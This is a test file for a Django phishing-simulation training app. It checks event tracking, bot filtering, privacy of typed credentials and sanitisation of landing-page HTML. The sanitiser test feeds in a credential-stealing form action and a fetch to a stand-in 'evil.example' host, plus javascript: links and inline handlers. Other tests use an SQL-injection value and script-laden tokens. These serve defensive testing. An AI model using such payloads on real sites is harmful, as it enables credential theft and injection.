"""Public tracking of simulated phishing: events stored by `tracking.record_event`, the public
endpoints (pixel, link, landing page, submission, teaching page, report), bot filtering, and
privacy (nothing typed on a landing page is stored or logged)."""

from __future__ import annotations

import datetime
import logging
import re
import secrets

import pytest
from django.db import connection
from django.test import Client
from django.urls import reverse
from django.utils import timezone

from rempart.awareness.tests.factories import make_module
from rempart.phishing import tracking
from rempart.phishing.models import (
    Campaign,
    CampaignRecipient,
    CampaignStatus,
    EventKind,
    TrackingEvent,
)

from .factories import delivered_campaign, phishing_world

pytestmark = pytest.mark.django_db

BROWSER = (
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
    "Chrome/131.0 Safari/537.36"
)
PHONE = (
    "Mozilla/5.0 (iPhone; CPU iPhone OS 18_1 like Mac OS X) AppleWebKit/605.1.15 "
    "(KHTML, like Gecko) Version/18.1 Mobile/15E148 Safari/604.1"
)
UNKNOWN = "nXbo1qZ7cT0Uf3rWm9Kd2LpYs8Ve4HgA"  # the right shape (32 characters), nobody's
FORGED = ["x", "a" * 21, "a" * 65, "abc$def" * 5, "é" * 32, "..", "%00" * 11, "<script>" * 4]


@pytest.fixture(autouse=True)
def _fresh_landing_cache():
    """Ids are reused between tests: the per-process landing-page cache starts empty."""
    tracking._landings.clear()


@pytest.fixture
def world():
    return phishing_world()


@pytest.fixture
def campaign(world):
    """A campaign being sent: two recipients, messages delivered an hour ago."""
    return delivered_campaign(world)


@pytest.fixture
def token(campaign):
    return campaign.recipients.order_by("pk").first().token


@pytest.fixture
def anonymous():
    return Client(HTTP_USER_AGENT=BROWSER)


def events(**filters):
    return list(TrackingEvent.objects.filter(**filters).order_by("pk"))


# --- record_event -------------------------------------------------------------------------------


def test_record_event_stores_one_event_with_a_hashed_agent(campaign, token):
    event = tracking.record_event(token=token, kind=EventKind.OPENED, user_agent=BROWSER)
    assert event is not None
    assert event.pk
    assert (event.campaign_id, event.kind, event.source) == (campaign.pk, "opened", "web")
    assert event.recipient.token == token
    assert event.user_agent_hash == tracking.user_agent_hash(BROWSER) != BROWSER
    assert len(event.user_agent_hash) == 64
    assert not event.suspected_bot
    assert event.bot_reason == ""


@pytest.mark.django_db(transaction=True)
@pytest.mark.skipif(connection.vendor != "postgresql", reason="asynchronous commit: PostgreSQL")
def test_event_committed_on_its_own_without_changing_the_session(campaign, token):
    """In autocommit, the event's statement is its own transaction, committed without waiting
    for the WAL flush: stored and visible to other sessions at once, and the session's own
    setting is untouched afterwards (the change is local to that transaction)."""
    from django.db import connections

    assert not connection.in_atomic_block
    event = tracking.record_event(token=token, kind=EventKind.OPENED, user_agent=BROWSER)
    assert event is not None
    with connection.cursor() as cursor:
        cursor.execute("SHOW synchronous_commit")
        assert cursor.fetchone()[0] == "on"
    other = connections.create_connection("default")
    try:
        with other.cursor() as cursor:
            cursor.execute(
                f"SELECT count(*) FROM {TrackingEvent._meta.db_table} WHERE id = %s",  # noqa: S608
                [event.pk],
            )
            assert cursor.fetchone()[0] == 1
    finally:
        other.close()


@pytest.mark.skipif(connection.vendor != "postgresql", reason="prepared statements: PostgreSQL")
def test_the_event_insert_is_prepared_once_and_nothing_else_is(
    campaign, token, django_assert_num_queries
):
    """PostgreSQL plans the tracking insert once per connection (decision 0004's amendment),
    while Django's own queries stay unprepared; the insert is still a logged query."""
    with django_assert_num_queries(3):
        for _ in range(3):
            tracking.record_event(token=token, kind=EventKind.OPENED, user_agent=BROWSER)
    list(Campaign.objects.filter(pk=campaign.pk))
    with connection.cursor() as cursor:
        cursor.execute("SELECT statement FROM pg_prepared_statements")
        prepared = [row[0] for row in cursor.fetchall()]
    assert len(prepared) == 1
    assert prepared[0].startswith(
        f"INSERT INTO {connection.ops.quote_name('phishing_trackingevent')}"
    )
    assert TrackingEvent.objects.count() == 3


@pytest.mark.parametrize("bad", [UNKNOWN, *FORGED, "", None, 42])
def test_record_event_ignores_unknown_forged_and_malformed_tokens(campaign, bad):
    assert tracking.record_event(token=bad, kind=EventKind.CLICKED, user_agent=BROWSER) is None
    assert not TrackingEvent.objects.exists()


def test_malformed_tokens_are_refused_before_any_query(django_assert_num_queries):
    with django_assert_num_queries(0):
        for bad in FORGED:
            assert tracking.record_event(token=bad, kind=EventKind.OPENED) is None


@pytest.mark.parametrize(
    "change",
    [
        {"status": CampaignStatus.CANCELLED},
        {"status": CampaignStatus.DRAFT},
        {"identities_erased_at": timezone.now()},
    ],
)
def test_dead_campaigns_record_nothing(campaign, token, change):
    Campaign.objects.filter(pk=campaign.pk).update(**change)
    assert tracking.record_event(token=token, kind=EventKind.OPENED, user_agent=BROWSER) is None
    assert not TrackingEvent.objects.exists()


def test_imap_report_is_recorded_with_its_source_and_never_flagged(token):
    at = timezone.now() - datetime.timedelta(minutes=5)
    event = tracking.record_event(token=token, kind=EventKind.REPORTED, at=at, source="imap")
    assert (event.kind, event.source, event.at, event.suspected_bot) == (
        "reported",
        "imap",
        at,
        False,
    )


def test_record_event_keeps_field_names_only_on_submissions(token):
    event = tracking.record_event(
        token=token,
        kind=EventKind.SUBMITTED,
        user_agent=BROWSER,
        filled_fields=["mot_de_passe", "identifiant", "identifiant", "not a name!"],
    )
    assert event.filled_fields == ["identifiant", "mot_de_passe"]
    opened = tracking.record_event(
        token=token, kind=EventKind.OPENED, user_agent=BROWSER, filled_fields=["identifiant"]
    )
    assert opened.filled_fields == []


# --- Bot filtering ------------------------------------------------------------------------------


def _sent(campaign, seconds_ago):
    CampaignRecipient.objects.filter(campaign=campaign).update(
        sent_at=timezone.now() - datetime.timedelta(seconds=seconds_ago)
    )


def test_too_fast_after_delivery_is_flagged(campaign, token, settings):
    settings.PHISHING_BOT_MIN_DELAY_SECONDS = 30
    _sent(campaign, 5)
    opened = tracking.record_event(token=token, kind=EventKind.OPENED, user_agent=BROWSER)
    assert (opened.suspected_bot, opened.bot_reason) == (True, "too_fast")
    _sent(campaign, 60)
    later = tracking.record_event(token=token, kind=EventKind.OPENED, user_agent=BROWSER)
    assert (later.suspected_bot, later.bot_reason) == (False, "")


@pytest.mark.parametrize(
    "agent",
    [
        "Mozilla/5.0 (compatible; Barracuda Sentinel)",
        "Proofpoint URL Defense",
        "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 HeadlessChrome/120.0 Safari/537.36",
        "python-requests/2.32.3",
        "curl/8.5.0",
        "Mozilla/5.0 (compatible; bingbot/2.0)",
        "",
    ],
)
def test_scanner_agents_are_flagged(token, agent):
    event = tracking.record_event(token=token, kind=EventKind.OPENED, user_agent=agent)
    assert (event.suspected_bot, event.bot_reason) == (True, "scanner_agent")


@pytest.mark.parametrize("agent", [BROWSER, PHONE, "Microsoft Office/16.0 (Windows NT 10.0)"])
def test_real_mail_clients_and_browsers_are_not_scanners(agent):
    assert not tracking.is_scanner_agent(agent)


def test_a_click_is_a_bot_until_the_page_script_confirms_it(campaign, token):
    tracking.record_click(token=token, user_agent=BROWSER)
    click = events(kind="clicked")[0]
    assert (click.suspected_bot, click.bot_reason) == (True, "no_js")
    other = campaign.recipients.exclude(token=token).get().token
    assert not tracking.confirm_click(token=other, event_id=click.pk)  # not theirs
    assert not tracking.confirm_click(token=token, event_id="1; DROP TABLE")
    assert tracking.confirm_click(token=token, event_id=click.pk)
    click.refresh_from_db()
    assert (click.suspected_bot, click.bot_reason) == (False, "")


def test_confirmation_keeps_the_other_reasons(campaign, token, settings):
    settings.PHISHING_BOT_MIN_DELAY_SECONDS = 30
    _sent(campaign, 2)
    event, _landing = tracking.record_click(token=token, user_agent="curl/8.5.0")
    assert event.bot_reason == "too_fast,scanner_agent,no_js"
    tracking.confirm_click(token=token, event_id=event.pk)
    event.refresh_from_db()
    assert (event.suspected_bot, event.bot_reason) == (True, "too_fast,scanner_agent")


def test_a_submission_confirms_the_click_before_it(token):
    event, _landing = tracking.record_click(token=token, user_agent=BROWSER)
    tracking.record_submission(
        token=token, user_agent=BROWSER, filled=["identifiant"], allowed=["identifiant"]
    )
    event.refresh_from_db()
    assert not event.suspected_bot


def test_filtered_rates_count_only_unflagged_events(campaign, token):
    """What results.py counts: raw = every event, filtered = suspected_bot False."""
    other = campaign.recipients.exclude(token=token).get().token
    tracking.record_click(token=token, user_agent="Proofpoint URL Defense")  # scanner
    event, _landing = tracking.record_click(token=other, user_agent=BROWSER)
    tracking.confirm_click(token=other, event_id=event.pk)
    clicks = TrackingEvent.objects.filter(campaign=campaign, kind="clicked")
    assert clicks.values("recipient").distinct().count() == 2  # raw
    assert clicks.filter(suspected_bot=False).values("recipient").distinct().count() == 1


# --- Pixel --------------------------------------------------------------------------------------


def test_pixel_answers_the_same_gif_for_every_token(anonymous, token):
    answers = []
    for value in (token, UNKNOWN, "x", "a" * 200):
        response = anonymous.get(reverse("phishing_tracking:pixel", args=[value]))
        assert response.status_code == 200
        assert response["Content-Type"] == "image/gif"
        assert "no-store" in response["Cache-Control"]
        assert not response.cookies
        answers.append(response.content)
    assert answers[0].startswith(b"GIF89a")
    assert len(set(answers)) == 1
    assert [e.kind for e in events()] == ["opened"]


def test_pixel_and_click_are_the_only_gets_that_write(anonymous, token):
    anonymous.get(reverse("phishing_tracking:report", args=[token]))
    anonymous.get(reverse("phishing_tracking:teaching", args=[token]))
    anonymous.get(reverse("phishing_tracking:neutral"))
    anonymous.get(reverse("phishing_tracking:report_thanks"))
    assert not TrackingEvent.objects.exists()
    assert anonymous.get(reverse("phishing_tracking:submit", args=[token])).status_code == 405
    assert anonymous.get(reverse("phishing_tracking:confirm", args=[token])).status_code == 405
    assert not TrackingEvent.objects.exists()


# --- Click, landing page, submission, teaching page ----------------------------------------------


def test_click_records_and_shows_the_landing_form(anonymous, token):
    response = anonymous.get(reverse("phishing_tracking:click", args=[token]))
    assert response.status_code == 200
    page = response.content.decode()
    assert [e.kind for e in events()] == ["clicked"]
    submit = reverse("phishing_tracking:submit", args=[token])
    assert f'<form method="post" action="{submit}"' in page
    assert page.count("<form") == 1  # the author's own form tag is replaced by ours
    assert 'name="identifiant"' in page
    assert 'name="mot_de_passe"' in page
    assert response["Referrer-Policy"] == "no-referrer"
    assert not response.cookies


def test_submission_keeps_only_the_names_of_the_filled_fields(anonymous, token):
    url = reverse("phishing_tracking:submit", args=[token])
    response = anonymous.post(
        url, {"identifiant": "jdupont", "mot_de_passe": "   ", "inconnu": "x", "csrf": "y"}
    )
    assert response.status_code == 302
    assert response["Location"] == reverse("phishing_tracking:teaching", args=[token])
    (event,) = events(kind="submitted")
    assert event.filled_fields == ["identifiant"]  # blank and unknown fields are left out


def test_teaching_page_links_to_the_module(anonymous, token):
    module = make_module("hameconnage", title="Reconnaître l'hameçonnage")
    page = anonymous.get(reverse("phishing_tracking:teaching", args=[token])).content.decode()
    assert "C&#x27;était un exercice" in page
    assert "Vérifiez toujours l&#x27;expéditeur." in page
    assert reverse("awareness:module_detail", args=[module.code]) in page


def test_teaching_page_falls_back_to_the_catalogue(anonymous, token):
    """The landing page's module (`hameconnage`) does not exist here: the catalogue, no 404."""
    page = anonymous.get(reverse("phishing_tracking:teaching", args=[token])).content.decode()
    assert f'href="{reverse("awareness:modules")}"' in page


def test_click_on_a_page_without_form_goes_straight_to_teaching(anonymous, campaign, token):
    campaign.landing_page.form_html = ""
    campaign.landing_page.save()
    response = anonymous.get(reverse("phishing_tracking:click", args=[token]))
    assert response.status_code == 200
    page = response.content.decode()
    assert "C&#x27;était un exercice" in page
    assert reverse("phishing_tracking:confirm", args=[token]) in page  # the beacon is there
    assert [e.kind for e in events()] == ["clicked"]


@pytest.mark.parametrize(
    "bad", [UNKNOWN, "x", "a" * 100, "é%20<b>"], ids=["unknown", "short", "long", "escaped"]
)
def test_dead_tokens_get_the_neutral_page_and_leak_nothing(anonymous, campaign, bad):
    for response in (
        anonymous.get(reverse("phishing_tracking:click", args=[bad])),
        anonymous.get(reverse("phishing_tracking:teaching", args=[bad])),
        anonymous.post(reverse("phishing_tracking:submit", args=[bad]), {"a": "b"}, follow=True),
    ):
        assert response.status_code == 200
        page = response.content.decode()
        assert "Ceci était un exercice" in page
        for secret in (campaign.name, "CH Test", "C&#x27;était un exercice", "identifiant"):
            assert secret not in page
    assert not TrackingEvent.objects.exists()


def test_cancelled_campaign_gives_the_neutral_page(anonymous, campaign, token):
    neutral = anonymous.get(reverse("phishing_tracking:click", args=[UNKNOWN])).content
    Campaign.objects.filter(pk=campaign.pk).update(status=CampaignStatus.CANCELLED)
    response = anonymous.get(reverse("phishing_tracking:click", args=[token]))
    assert response.status_code == 200
    strip = re.compile(rb'nonce="[^"]*"')
    assert strip.sub(b"", response.content) == strip.sub(b"", neutral)
    assert not TrackingEvent.objects.exists()


def test_confirm_beacon_answers_204_whatever_it_gets(anonymous, token):
    anonymous.get(reverse("phishing_tracking:click", args=[token]))
    (click,) = events()
    url = reverse("phishing_tracking:confirm", args=[token])
    for body in ({}, {"e": "abc"}, {"e": "99999999999999999999999"}, {"e": str(click.pk)}):
        assert anonymous.post(url, body).status_code == 204
    assert (
        anonymous.post(reverse("phishing_tracking:confirm", args=["x"]), {"e": "1"}).status_code
        == 204
    )
    click.refresh_from_db()
    assert not click.suspected_bot


# --- Report -------------------------------------------------------------------------------------


def test_report_get_shows_a_button_and_post_records(anonymous, token):
    url = reverse("phishing_tracking:report", args=[token])
    page = anonymous.get(url).content.decode()
    assert '<form method="post">' in page
    assert "Signaler ce message" in page
    assert not TrackingEvent.objects.exists()
    response = anonymous.post(url)
    assert response.status_code == 302
    assert response["Location"] == reverse("phishing_tracking:report_thanks")
    assert [(e.kind, e.source) for e in events()] == [("reported", "web")]
    assert "Merci" in anonymous.get(response["Location"]).content.decode()


def test_report_answers_the_same_for_every_token(anonymous, token):
    strip = re.compile(rb'nonce="[^"]*"')
    gets, posts = set(), set()
    for value in (token, UNKNOWN, "x", "a" * 100):
        url = reverse("phishing_tracking:report", args=[value])
        gets.add(strip.sub(b"", anonymous.get(url).content))
        response = anonymous.post(url)
        posts.add((response.status_code, response["Location"]))
    assert len(gets) == 1
    assert len(posts) == 1
    assert len(events(kind="reported")) == 1


def test_routes_the_sending_engine_reverses(token):
    for name in ("pixel", "click", "report"):
        assert token in reverse(f"phishing_tracking:{name}", args=[token])


# --- Privacy ------------------------------------------------------------------------------------


def _every_row_as_text() -> str:
    chunks = []
    with connection.cursor() as cursor:
        for table in connection.introspection.table_names():
            cursor.execute(f"SELECT * FROM {connection.ops.quote_name(table)}")  # noqa: S608
            chunks.extend(repr(row) for row in cursor.fetchall())
    return "\n".join(chunks)


def test_nothing_typed_reaches_the_database_or_the_logs(anonymous, token, caplog):
    secret = "typed-" + secrets.token_hex(16)
    caplog.set_level(logging.DEBUG)
    anonymous.get(reverse("phishing_tracking:click", args=[token]))
    response = anonymous.post(
        reverse("phishing_tracking:submit", args=[token]),
        {"identifiant": secret, "mot_de_passe": secret + "-pw", secret: "as a name"},
        follow=True,
    )
    assert response.status_code == 200
    assert secret not in response.content.decode()
    (event,) = events(kind="submitted")
    assert event.filled_fields == ["identifiant", "mot_de_passe"]
    assert secret not in _every_row_as_text()
    assert "identifiant" in _every_row_as_text()  # the search does see the events table
    logged = "\n".join(f"{record.getMessage()} {record.__dict__!r}" for record in caplog.records)
    assert secret not in logged


def test_an_error_report_of_a_submission_hides_the_typed_values(rf, token):
    from django.views.debug import SafeExceptionReporterFilter

    from rempart.phishing import tracking_views

    secret = "typed-" + secrets.token_hex(16)
    request = rf.post("/p/c/x/envoi/", {"mot_de_passe": secret})
    request.sensitive_post_parameters = "__ALL__"  # what the decorator sets on the view
    cleaned = SafeExceptionReporterFilter().get_post_parameters(request)
    assert secret not in repr(dict(cleaned))
    assert tracking_views.submit.__wrapped__  # decorated (sensitive_post_parameters)


# --- Public pages: CSP, mobile, no menu, no login -----------------------------------------------


PUBLIC_PAGES = [
    ("phishing_tracking:click", True),
    ("phishing_tracking:teaching", True),
    ("phishing_tracking:report", True),
    ("phishing_tracking:neutral", False),
    ("phishing_tracking:report_thanks", False),
]


@pytest.mark.parametrize(("name", "with_token"), PUBLIC_PAGES)
def test_public_pages_are_mobile_friendly_without_menu_or_login(name, with_token, token):
    client = Client(HTTP_USER_AGENT=PHONE)
    response = client.get(reverse(name, args=[token] if with_token else []))
    assert response.status_code == 200
    page = response.content.decode()
    assert 'name="viewport" content="width=device-width, initial-scale=1"' in page
    for app_only in (
        "fr-nav",
        "Se connecter",
        "Se déconnecter",
        "Hameçonnage simulé",
        "/accounts/",
    ):
        assert app_only not in page
    assert not response.cookies


@pytest.mark.parametrize(("name", "with_token"), PUBLIC_PAGES)
def test_public_pages_respect_the_csp(name, with_token, anonymous, token):
    response = anonymous.get(reverse(name, args=[token] if with_token else []))
    policy = response["Content-Security-Policy"]
    assert "'unsafe-inline'" not in policy
    page = response.content.decode()
    scripts = re.findall(r"<script\b[^>]*>", page)
    nonce = re.search(r"'nonce-([^']+)'", policy)
    for tag in scripts:
        assert nonce
        assert f'nonce="{nonce.group(1)}"' in tag
    assert not re.search(r"\son[a-z]+\s*=", page)  # no inline event handler
    assert not re.search(r"\sstyle\s*=", page)  # no inline style (style-src 'self')
    if name == "phishing_tracking:click":
        assert len(scripts) == 1  # the confirmation beacon


def test_landing_html_is_sanitised(anonymous, campaign, token):
    campaign.landing_page.form_html = (
        '<form action="https://evil.example/steal"><h1 onclick="x()" style="color:red">Portail</h1>'
        "<script>fetch('https://evil.example')</script><style>h1{}</style>"
        '<iframe src="https://evil.example"></iframe><a href="javascript:alert(1)">lien</a>'
        '<input name="identifiant" type="image" onfocus="x()"></div></div></form>'
        '<p>après</p><button type="submit" formaction="https://evil.example">OK</button>'
    )
    campaign.landing_page.save()
    page = anonymous.get(reverse("phishing_tracking:click", args=[token])).content.decode()
    for bad in (
        "evil.example",
        "onclick",
        "onfocus",
        "javascript:",
        "color:red",
        "<iframe",
        "h1{}",
    ):
        assert bad not in page
    assert "<h1>Portail</h1>" in page
    assert "<p>après</p>" in page
    assert (
        '<input name="identifiant" type="text" autocomplete="off" aria-label="Identifiant">' in page
    )
    assert page.count("<form") == 1
    assert page.count("</form>") == 1
    # A stray end tag closes nothing around it: the author's content stays inside our form.
    form = page[page.index("<form") : page.index("</form>")]
    assert "<p>après</p>" in form
    assert 'type="submit"' in form
    assert page.count('type="submit"') == 1  # the author's button, not a second one


def test_sanitiser_unit_cases():
    html, names = tracking.safe_landing_html(
        '<div><label for="u">Identifiant</label><input id="u" name="user">'
        '<select name="site"><option value="a">A</option></select><textarea name="note">'
        '</textarea><img src="data:image/png;base64,AAAA" alt=""><img src="javascript:x">'
        '<a href="data:text/html,x">d</a><script/><p>fin'
    )
    assert names == ["user", "site", "note"]
    assert '<img src="data:image/png;base64,AAAA" alt>' in html
    assert "javascript" not in html
    assert "data:text" not in html
    assert html.endswith("<p>fin</p></div>")


# --- The fast path (settings.MIDDLEWARE) ---------------------------------------------------------

FAST_PATH = "rempart.phishing.tracking_views.TrackingFastPathMiddleware"
CSP = "django.middleware.csp.ContentSecurityPolicyMiddleware"


@pytest.fixture
def fast_path(settings):
    middleware = [m for m in settings.MIDDLEWARE if m != FAST_PATH]
    middleware.insert(middleware.index(CSP) + 1, FAST_PATH)
    settings.MIDDLEWARE = middleware


def test_fast_path_serves_the_tracking_routes_with_their_headers(
    fast_path, anonymous, token, caplog
):
    caplog.set_level(logging.INFO)
    pixel = anonymous.get(reverse("phishing_tracking:pixel", args=[token]))
    assert pixel.status_code == 200
    assert pixel.content.startswith(b"GIF89a")
    click = anonymous.get(reverse("phishing_tracking:click", args=[token]))
    assert click.status_code == 200
    nonce = re.search(r"'nonce-([^']+)'", click["Content-Security-Policy"]).group(1)
    assert f'<script nonce="{nonce}"' in click.content.decode()
    assert click["X-Frame-Options"] == "DENY"
    report = anonymous.post(reverse("phishing_tracking:report", args=[token]))
    assert report.status_code == 302
    submit = anonymous.post(reverse("phishing_tracking:submit", args=[token]), {"identifiant": "x"})
    assert submit["Location"] == reverse("phishing_tracking:teaching", args=[token])
    assert [e.kind for e in events()] == ["opened", "clicked", "reported", "submitted"]
    assert not any(token in record.getMessage() for record in caplog.records)  # not logged
    assert not any(r.cookies for r in (pixel, click, report, submit))


def test_fast_path_leaves_the_other_routes_to_the_full_stack(fast_path, anonymous, token):
    assert anonymous.get("/p/inconnu/").status_code == 404
    response = anonymous.get(reverse("phishing:campaign_list"))
    assert response.status_code == 302
    assert "/accounts/login/" in response["Location"]
    assert anonymous.get(reverse("phishing_tracking:click", args=["x"])).status_code == 200


def test_the_hot_insert_writes_every_column_of_the_model():
    """record_event writes with one INSERT … SELECT: a new column must be added there too."""
    columns = {f.column for f in TrackingEvent._meta.concrete_fields if not f.primary_key}
    assert set(tracking.INSERT_COLUMNS) == columns


def test_fields_without_a_label_get_one_from_their_name():
    html, _names = tracking.safe_landing_html(
        "<input name='mot_de_passe' type='password'><label>Code <input name='code'></label>"
        "<label for='u'>Identifiant</label><input id='u' name='user'>"
    )
    assert (
        'name="mot_de_passe" type="password" autocomplete="off" aria-label="Mot de passe"' in html
    )
    assert '<input name="code" autocomplete="off">' in html  # inside its label
    assert '<input id="u" name="user" autocomplete="off">' in html  # labelled by id
